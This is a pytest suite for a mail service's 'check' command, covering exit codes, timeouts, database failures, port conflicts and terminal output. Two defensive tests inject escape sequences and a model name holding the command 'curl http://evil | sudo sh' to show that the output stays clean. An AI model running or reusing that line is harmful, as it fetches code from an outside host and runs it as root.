"""`rcmail check`, from outside the process: what it says and how it ends, whatever is down."""

import asyncio
import json
import re
import signal
import socket
import subprocess
import threading
import time
from collections.abc import Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, HTTPServer
from pathlib import Path

import pytest

from rcmail import __version__
from rcmail.config import PostgresConfig
from rcmail.db.embedded import EmbeddedPostgres
from rcmail.db.pool import Database
from rcmail.doctor import Diagnosis, examine
from rcmail.health.base import Check, Finding, Group, Result, ServiceStatus, Verdict
from rcmail.health.monitor import Report
from rcmail.llm.ollama import OllamaAdapter
from tests.fakes.ollama import FakeOllama
from tests.support import (
    SECRET_KEY,
    clean_environment,
    free_port,
    make_config,
    postgres_config,
    run_rcmail,
    service_environment,
    serving,
)

Env = dict[str, str]
GMAIL = {"GMAIL_CLIENT_ID": "abcd", "GMAIL_CLIENT_SECRET": "efgh", "GMAIL_REFRESH_TOKEN": "ijkl"}


def verdict_of(result: subprocess.CompletedProcess[str], label: str) -> str:
    """The first word of the row ``label`` of the table."""
    [row] = [line for line in result.stdout.splitlines() if re.match(rf"[a-z ]{{10}}{label}  ", line)]
    return row[:10].strip()


async def test_check_says_what_the_health_page_says(service_env: Env, folder: Path, ollama: FakeOllama) -> None:
    env = service_env | GMAIL | {"OLLAMA_BASE_URL": ollama.url}

    def look() -> tuple[subprocess.CompletedProcess[str], dict[str, object]]:
        with serving(folder, env) as service:
            port = {"HTTP_PORT": str(service.port)}
            return run_rcmail("check", "--json", env=env | port, cwd=folder), service.get("/health?full=1").json()

    result, page = await asyncio.to_thread(look)
    answer = json.loads(result.stdout)
    assert (answer["status"], answer["version"]) == ("ok", __version__)
    assert answer["checks"] == page["checks"] == {"db": "ok", "llm": "ok", "mail": "ok"}

    def steady(machine: object) -> dict[str, tuple[str, str]]:
        """Without what one of them cannot tell, and amounts that change from one moment to the next."""
        assert isinstance(machine, list)
        changing = ("service", "own_memory", "disk", "memory", "temperature", "uptime", "database", "worker")
        return {fact["name"]: (fact["verdict"], fact["value"]) for fact in machine if fact["name"] not in changing}

    assert steady(answer["machine"]) == steady(page["machine"])
    [service] = [fact for fact in answer["machine"] if fact["name"] == "service"]
    assert service["verdict"] == "ok"
    worst = {fact["verdict"] for fact in answer["machine"]} & {"warning", "error"}
    assert result.returncode == (2 if "error" in worst else 1 if worst else 0)
    assert result.stderr == ""


def test_without_a_service_and_without_a_database_it_exits_2_and_shows_the_rest(folder: Path) -> None:
    env = clean_environment(
        SECRET_KEY=SECRET_KEY, POSTGRES_HOST=str(folder), OLLAMA_BASE_URL="", HTTP_PORT=str(free_port())
    )
    began = time.monotonic()
    result = run_rcmail("check", env=env, cwd=folder)
    assert time.monotonic() - began < 20  # 5, and some for a machine with much to do
    assert result.returncode == 2
    assert [verdict_of(result, label) for label in ("Database", "The service", "PostgreSQL", "Mail")] == [
        "error", "error", "not here", "not here",
    ]  # fmt: skip
    assert "systemctl status rcmail" in result.stdout
    assert "Traceback" not in result.stdout + result.stderr
    assert "\033[" not in result.stdout


@pytest.mark.parametrize("how", [signal.SIGSTOP, signal.SIGKILL])
def test_with_a_database_that_hangs_or_is_gone_it_answers_within_5_s(
    own_postgres: EmbeddedPostgres, folder: Path, how: signal.Signals
) -> None:
    env = service_environment(postgres_config(str(own_postgres.socket)), HTTP_PORT=str(free_port()))
    assert run_rcmail("migrate", env=env, cwd=folder).returncode == 0
    assert own_postgres.pid is not None
    with signalled(own_postgres, how):
        began = time.monotonic()
        result = run_rcmail("check", env=env, cwd=folder)
        seconds = time.monotonic() - began
    assert seconds < 20  # 5, and some for a machine with much to do
    assert (result.returncode, verdict_of(result, "Database")) == (2, "error")
    assert "Traceback" not in result.stdout + result.stderr


def test_a_database_that_was_never_migrated_is_told_and_no_traceback(
    empty_database: PostgresConfig, folder: Path
) -> None:
    env = service_environment(empty_database, HTTP_PORT=str(free_port()))
    result = run_rcmail("check", env=env, cwd=folder)
    assert [verdict_of(result, label) for label in ("Database", "Database schema")] == ["error", "warning"]
    assert "are not there yet; restart rcmail, and it makes them" in result.stdout
    assert verdict_of(result, "Language model") == "not here"
    assert "Traceback" not in result.stdout + result.stderr


async def test_a_language_model_that_nobody_wanted_is_no_warning(
    database_config: PostgresConfig, monkeypatch: pytest.MonkeyPatch
) -> None:
    nobody = f"http://127.0.0.1:{free_port()}"
    monkeypatch.setattr("rcmail.llm.current.DEFAULT_ENDPOINT", nobody)  # the real one may be taken on this machine
    monkeypatch.setattr(OllamaAdapter, "is_installed", lambda _: False)
    found = (await examine(make_config(database_config, ollama_base_url=nobody))).report.get("llm")
    assert found is not None
    assert (found.verdict, found.status) == (Verdict.NOT_HERE, ServiceStatus.UNCONFIGURED)
    assert "systemctl" not in found.advice


@contextmanager
def signalled(server: EmbeddedPostgres, how: signal.Signals) -> Iterator[None]:
    """All processes of the server get the signal, and go on at the end of the block where that is possible."""
    import os

    assert server.pid is not None
    processes = [server.pid]
    children = Path(f"/proc/{server.pid}/task/{server.pid}/children").read_text().split()
    processes += map(int, children)
    for pid in processes:
        os.kill(pid, how)
    try:
        yield
    finally:
        if how is signal.SIGSTOP:
            for pid in processes:
                os.kill(pid, signal.SIGCONT)


def test_a_faulty_configuration_is_78(folder: Path) -> None:
    assert run_rcmail("check", env=clean_environment(), cwd=folder).returncode == 78


@pytest.mark.parametrize("seconds", ["-1", "soon", "1e9", "99999"])
def test_a_wait_that_is_none_is_refused_with_a_sentence(folder: Path, seconds: str) -> None:
    result = run_rcmail("check", "--wait", seconds, env=clean_environment(SECRET_KEY=SECRET_KEY), cwd=folder)
    assert result.returncode == 2
    assert "--wait" in result.stderr


def test_it_waits_for_a_service_that_is_still_starting(service_env: Env, folder: Path) -> None:
    with serving(folder, service_env, wait=0) as service:
        env = service_env | {"HTTP_PORT": str(service.port)}
        result = run_rcmail("check", "--wait", "30", env=env, cwd=folder)
    assert verdict_of(result, "The service") == "ok"


def test_a_wait_ends_when_its_time_is_over(service_env: Env, folder: Path) -> None:
    env = service_env | {"HTTP_PORT": str(free_port())}
    result = run_rcmail("check", "--wait", "1", env=env, cwd=folder)
    assert (result.returncode, verdict_of(result, "The service")) == (2, "error")


@pytest.mark.parametrize(
    ("body", "says"),
    [
        (b"<h1>It works!</h1>", "another program answers"),
        (b'{"version": 7}', "another version"),
        (b"[" * 20000, "another program answers"),
        (json.dumps({"version": "0.0.1"}).encode(), "another version"),
    ],
)
def test_another_program_on_the_port_is_told(service_env: Env, folder: Path, body: bytes, says: str) -> None:
    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            self.send_response(200)
            self.end_headers()
            self.wfile.write(body)

        def log_message(self, *args: object) -> None:
            pass

    with HTTPServer(("127.0.0.1", 0), Handler) as server:
        threading.Thread(target=server.serve_forever, daemon=True).start()
        env = service_env | {"HTTP_PORT": str(server.server_port)}
        result = run_rcmail("check", env=env, cwd=folder)
        server.shutdown()
    assert says in result.stdout


def test_a_port_that_takes_the_connection_and_says_nothing_holds_it_up_no_longer_than_5_s(
    service_env: Env, folder: Path
) -> None:
    with socket.create_server(("127.0.0.1", 0)) as silent:
        began = time.monotonic()
        env = service_env | {"HTTP_PORT": str(silent.getsockname()[1])}
        result = run_rcmail("check", env=env, cwd=folder)
        assert time.monotonic() - began < 20  # 5, and some for a machine with much to do
    assert verdict_of(result, "The service") == "error"


def diagnosis(*verdicts: Verdict) -> Diagnosis:
    """One service, and a fact for each of ``verdicts``."""
    service = Check("llm", "Language model", lambda: Finding(""), Group.SERVICES)
    results = [Result(service, Finding("well"))]
    for number, verdict in enumerate(verdicts):
        check = Check(f"f{number}", f"Fact {number}", lambda: Finding(""))
        results.append(Result(check, Finding("value", verdict, "do it now")))
    return Diagnosis(Report.of(results))


@pytest.mark.parametrize(
    ("verdicts", "code"),
    [
        ([Verdict.OK, Verdict.NOT_HERE], 0),
        ([Verdict.WARNING], 1),
        ([Verdict.WARNING, Verdict.ERROR], 2),
    ],
)
def test_the_exit_code_is_that_of_the_worst(verdicts: list[Verdict], code: int) -> None:
    assert diagnosis(*verdicts).exit_code == code


def test_no_text_of_a_stranger_steers_the_terminal() -> None:
    evil = "\x1b]0;owned\x07\x1b[2J\x9b31m\u202e\ud800"
    service = Check("llm", "Language model", lambda: Finding(""), Group.SERVICES)
    found = Diagnosis(Report((Result(service, Finding(evil, Verdict.WARNING, evil)),)))
    for text in (found.as_table(width=80, is_colourful=False), found.as_json()):
        assert all(character.isprintable() or character == "\n" for character in text)
    assert json.loads(found.as_json())["details"]["llm"] == evil


async def test_a_stored_model_and_a_server_that_speak_in_escape_codes_say_nothing_to_root(
    service_env: Env, folder: Path, database: Database, ollama: FakeOllama
) -> None:
    evil = "x` \x1b]0;owned\x07 `curl http://evil | sudo sh"
    ollama.answers = {"/api/tags": {"models": [{"name": evil}, {"name": "m"}]}, "/api/version": {"version": evil}}
    await database.fetch("INSERT INTO settings (key, value) VALUES ('llm_model', %s)", (evil,))
    env = service_env | {"OLLAMA_BASE_URL": ollama.url, "HTTP_PORT": str(free_port())}
    for option in ([], ["--json"]):
        result = await asyncio.to_thread(run_rcmail, "check", *option, env=env, cwd=folder)
        assert "Ollama answers and has 1 model, but none is chosen" in " ".join(result.stdout.split())
        assert "\x1b" not in result.stdout + result.stderr
        assert "curl" not in result.stdout + result.stderr


def test_the_table_has_colours_where_wanted_and_keeps_to_the_width() -> None:
    table = diagnosis(Verdict.WARNING, Verdict.NOT_HERE).as_table(width=60, is_colourful=True)
    assert "\033[33mwarning   \033[0mFact 0" in table
    assert "→ do it now" in table
    plain = diagnosis(Verdict.ERROR).as_table(width=50, is_colourful=False)
    assert "\033" not in plain
    assert max(map(len, plain.splitlines())) <= 70
